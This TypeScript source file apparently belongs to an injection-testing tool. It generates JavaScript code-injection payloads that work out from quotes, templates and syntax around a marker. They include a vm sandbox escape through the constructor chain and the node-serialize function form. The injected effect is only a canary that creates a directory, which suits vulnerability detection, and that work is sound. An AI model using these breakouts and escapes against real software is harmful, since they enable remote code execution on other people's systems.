import { Script } from 'node:vm'
import { NONCE } from '../plan.ts'
import { quotingAfter } from './command-payloads.ts'

/** What makes the canary: with the globals of the process at hand, and from within a context that has objects of it. */
const EFFECTS = [
  `process.getBuiltinModule('fs').mkdirSync('${NONCE}')`,
  `this.constructor.constructor('return process')().getBuiltinModule('fs').mkdirSync('${NONCE}')`,
] as const

/** Ways out of what a text may stand in within code, with `@` for the effect. */
const WAYS_OUT = [
  '@',
  "'+@+'",
  '"+@+"',
  '`+@+`',
  '${@}',
  '${a,@}',
  ';@;//',
  "';@;//",
  '";@;//',
  '`;@;//',
  "');@;//",
  '");@;//',
  "'];@;//",
  '"];@;//',
  ');@;//',
  '];@;//',
  '};@;//',
  '});@;//',
  "'});@;//",
  '"});@;//',
  ')};@;//',
  ',@',
  '+@',
  '[@]',
  '.a,@',
  '*/@/*',
  '\n@\n//',
  '(){}(@);function a',
  '(){})(@);(function()',
  '(){})(@);(function(){',
  '(){})(@);(function',
  '=@',
  'a=@',
  'a){}@;//',
  'a}(@)//',
  'a=0;@;var a',
  '){@}//',
  '){@});(function(){',
  'a}@;{',
  "a',a:@,b:'",
  'a",a:@,b:"',
  '(function(){@})()',
  '_$$ND_FUNC$$_function(){@}()',
] as const

/** Where quotes are escaped and the sign that escapes them is not; the effect needs quotes of another kind then. */
const ESCAPED_EFFECT = `process.getBuiltinModule(\`fs\`).mkdirSync(\`${NONCE}\`)`
const CLOSINGS = ['', ']', ')', '])', '}', '})'] as const
const ESCAPED_WAYS_OUT = ['+@//', ';@//', ',@)//', '+@){//', '){}@//'] as const
const ESCAPED_MAX = 12

const TRIES_MAX = 60
/** Parses only where nothing runs: in quotes, and in comments. */
const NO_TOKEN = '@#'

/**
 * The payloads for a text that stands in this code, at the marker: those first with which the code still parses. A way
 * out of quotes is of no use elsewhere, and the parser knows. The others may be what the package makes code of.
 */
export const codePayloads = (code: string, marker: string): readonly string[] => {
  const fitting: string[] = []
  const others: string[] = []
  const put = (way: string, effect: string) => {
    const payload = way.replace('@', () => effect.replaceAll(NONCE, 'n'))
    return code.replaceAll(marker, () => payload)
  }
  for (const effect of [...EFFECTS, ESCAPED_EFFECT])
    for (const way of WAYS_OUT) {
      const payload = way.replace('@', () => effect)
      if (parses(put(way, effect)) && !parses(put(way, NO_TOKEN))) fitting.push(payload)
      else if (effect === EFFECTS[0] && REWRITTEN.has(way)) others.push(payload)
    }
  return [...fitting, ...escapedOf(code, marker), ...others].slice(0, TRIES_MAX)
}

/** Ways to try where they do not fit. Not more: one that is code in a language of templates does what that is for. */
const REWRITTEN: ReadonlySet<string> = new Set(['[@]', ...WAYS_OUT.slice(0, 10)])

const escapedOf = (code: string, marker: string): string[] => {
  const quoting = quotingAfter(code.slice(0, code.indexOf(marker)))
  if (quoting === 'none') return []
  const quote = quoting === 'single' ? "'" : '"'
  const all = ESCAPED_WAYS_OUT.flatMap((way) =>
    CLOSINGS.map((closing) => `\\${quote}${closing}${way.replace('@', () => ESCAPED_EFFECT)}`),
  )
  const escaped = (payload: string) =>
    code.replaceAll(marker, () => payload.replaceAll(quote, `\\${quote}`).replaceAll(NONCE, 'n'))
  const fitting = all.filter((payload) => parses(escaped(payload)))
  return [...new Set([...fitting, ...all.slice(0, 3)])].slice(0, ESCAPED_MAX)
}

const parses = (code: string): boolean => {
  for (const text of [code, `(function(){${code}\n})`, `(${code}\n)`])
    try {
      return new Script(text) instanceof Script
    } catch {
      // The next reading may fit.
    }
  return false
}
